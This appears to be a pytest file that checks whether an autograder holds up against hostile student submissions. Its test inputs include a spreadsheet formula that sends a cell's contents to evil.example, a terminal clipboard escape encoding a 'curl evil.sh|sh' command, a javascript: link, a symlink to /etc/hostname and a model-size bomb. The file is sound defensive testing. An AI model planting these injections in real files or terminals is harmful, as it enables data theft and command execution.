"""Hostile names and notebooks in a real class run (``python -m autograder batch``) and in ``grade``.

Folder and file names that carry spreadsheet formulas, terminal escapes, newlines, leading dashes or bytes
that are not UTF-8; notebooks that are not JSON, are nbformat v3, or have 10,000 cells; a saved model whose
config declares a 3,000,000-unit layer. Each gets its own precise status, every CSV cell and terminal line
stays inert, and the honest student beside them is graded in full.
"""

from __future__ import annotations

import csv
import json
import os
import subprocess
import sys
from pathlib import Path

import nbformat
import pytest

from autograder.paths import ROOT
from autograder.sandbox import bwrap_problem
from tests.notebooks import WARMUP, cell, variant

FORMULA = '=HYPERLINK("evil.example?"&A1,"open")'  # no slash: a folder name
ESCAPES = "osc\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07\r\x1b[2Kzz_honest 4 of 4"  # OSC 52, then erase-line fakes a row
NEWLINE = "new\nline"
DASH = "--help"
NON_UTF8 = os.fsdecode(b"caf\xe9")
BOMB = "declares_huge_model"

pytestmark = [pytest.mark.notebooks,  # every test here grades notebooks end to end
              pytest.mark.skipif(bwrap_problem() is not None, reason=f"no sandbox here: {bwrap_problem()}")]


def declares_huge_model(nb):
    """After the real submit, rewrites model.keras so that its config declares Dense(3_000_000)."""
    cell(nb, "answers").source += """
import json as _json, zipfile as _zipfile, coursework as _cw
_submit = _cw.submit
def _bomb(out, **kw):
    _submit(out, **kw)
    path = __import__("pathlib").Path(out) / "model.keras"
    with _zipfile.ZipFile(path) as z:
        members = {i.filename: z.read(i) for i in z.infolist()}
    config = _json.loads(members["config.json"])
    next(l for l in config["config"]["layers"] if l["class_name"] == "Dense")["config"]["units"] = 3_000_000
    members["config.json"] = _json.dumps(config).encode()
    with _zipfile.ZipFile(path, "w") as z:
        for name, data in members.items():
            z.writestr(name, data)
_cw.submit = _bomb
"""


def write_notebook(folder: Path, content: bytes) -> None:
    (folder / WARMUP).mkdir(parents=True)
    (folder / WARMUP / f"{WARMUP}.ipynb").write_bytes(content)


def v3_notebook() -> bytes:
    from nbformat.v3 import new_code_cell, new_notebook, new_worksheet
    from nbformat.v3.nbjson import writes

    return writes(new_notebook(worksheets=[new_worksheet(cells=[new_code_cell("print('v3')")])])).encode()


def many_cells() -> bytes:
    nb = nbformat.read(ROOT / "reference_solutions" / WARMUP / f"{WARMUP}.ipynb", as_version=4)
    nb.cells += [nbformat.v4.new_code_cell("pass") for _ in range(10_000)]
    return nbformat.writes(nb).encode()


@pytest.fixture(scope="module")
def hostile_names(tmp_path_factory, data_dir):
    root = tmp_path_factory.mktemp("names")
    class_dir, out = root / "submitted", root / "grading"
    variant(class_dir / "aa_honest", WARMUP)
    variant(class_dir / BOMB, WARMUP, declares_huge_model)
    write_notebook(class_dir / FORMULA, b"this is not JSON {")
    write_notebook(class_dir / ESCAPES, b"[]")
    write_notebook(class_dir / NEWLINE, v3_notebook())
    write_notebook(class_dir / DASH, many_cells())
    write_notebook(class_dir / NON_UTF8, b"\xff\xfe not a notebook")
    proc = subprocess.run(
        [sys.executable, "-m", "autograder", "batch", str(class_dir), "--out", str(out), "--profile", "smoke",
         "--data-dir", str(data_dir), "--jobs", "1", "--cell-timeout", "60"],
        cwd=ROOT, capture_output=True, timeout=900, env={**os.environ, "PYTHONPATH": str(ROOT)})
    return {"out": out, "proc": proc, "results": {p.parent.name: json.loads(p.read_text())
                                                  for p in out.glob("*/results.json")}}


def by_check(results: dict) -> dict[str, tuple[str, str]]:
    return {r["id"]: (r["status"], r["message"]) for r in results["results"]}


def test_the_batch_finishes_and_the_honest_student_keeps_full_marks(hostile_names):
    proc = hostile_names["proc"]
    assert proc.returncode == 0, proc.stderr.decode(errors="replace")[-3000:]
    assert hostile_names["results"]["aa_honest"]["totals"]["points"] == 4


def test_a_model_declaring_a_huge_layer_is_an_error_before_it_is_loaded(hostile_names):
    checks = by_check(hostile_names["results"][BOMB])
    assert checks["structure"][0] == "error" and checks["accuracy"][0] == "error"
    assert "declares more than 50,000,000 variables" in checks["accuracy"][1]
    assert "model_parameters" in checks["accuracy"][1]
    assert hostile_names["results"][BOMB]["totals"]["points"] == 0


@pytest.mark.parametrize("student, message", [
    (FORMULA, "is not a readable notebook"),
    (ESCAPES, "is not a readable notebook"),
    (NON_UTF8, "is not a readable notebook"),
    (NEWLINE, "is an nbformat 3 notebook"),
    (DASH, "10,014 cells; the limit is 1,000"),
])
def test_each_hostile_notebook_gets_a_precise_error(hostile_names, student, message):
    results = hostile_names["results"][student]
    assert results["totals"]["points"] == 0
    assert any(message in r["message"] for r in results["results"]), results["results"][:2]


def test_no_csv_cell_starts_a_formula(hostile_names):
    for name in ("grades.csv", "gradebook.csv"):
        with open(hostile_names["out"] / name, newline="", encoding="utf-8", errors="surrogateescape") as fh:
            rows = list(csv.reader(fh))
        cells = [c for row in rows for c in row]
        assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or (c.startswith("-") and c != "-0")]
        assert "'" + FORMULA in cells and "'" + DASH in cells
        assert len(rows) == (1 + 7 if name == "grades.csv" else 1 + 7)


def test_no_terminal_escape_reaches_the_terminal(hostile_names):
    proc = hostile_names["proc"]
    for stream in (proc.stdout, proc.stderr):
        assert b"\x1b" not in stream and b"\x07" not in stream and b"\r" not in stream
    stdout = proc.stdout.decode()
    assert "osc\\x1b]52;c;" in stdout and "new\\x0aline" in stdout and "caf\\xe9" in stdout
    assert not any(line.startswith("zz_honest 4 of 4") for line in stdout.splitlines())


def test_the_class_report_links_no_script(hostile_names):
    page = (hostile_names["out"] / "class_report.html").read_text(encoding="utf-8", errors="surrogateescape")
    assert "javascript:" not in page.replace("javascript\\:", "")
    assert "<script" not in page


def test_grade_prints_no_escape_and_refuses_the_huge_model(tmp_path, data_dir):
    submission = variant(tmp_path / "student", WARMUP, declares_huge_model)
    (submission / WARMUP / f"notes{ESCAPES}[x](javascript:alert(1)).txt").symlink_to("/etc/hostname")
    out = tmp_path / "grading"
    proc = subprocess.run(
        [sys.executable, "-m", "autograder", "grade", str(submission), "--out", str(out), "--profile", "smoke",
         "--data-dir", str(data_dir), "--cell-timeout", "60"],
        cwd=ROOT, capture_output=True, timeout=600, env={**os.environ, "PYTHONPATH": str(ROOT)})
    assert proc.returncode == 0, proc.stderr.decode(errors="replace")[-3000:]
    for stream in (proc.stdout, proc.stderr):
        assert b"\x1b" not in stream and b"\x07" not in stream and b"\r" not in stream
    stdout = proc.stdout.decode()
    assert "declares more than 50,000,000 variables" in stdout, stdout
    assert "notes" + "osc\\x1b]52;c;" in stdout  # the skipped file, named in the table, escaped
    page = (out / f"{WARMUP}.html").read_text()
    assert 'href="javascript:' not in page and "[x](javascript:alert(1)).txt (a symlink)" in page  # text, no link
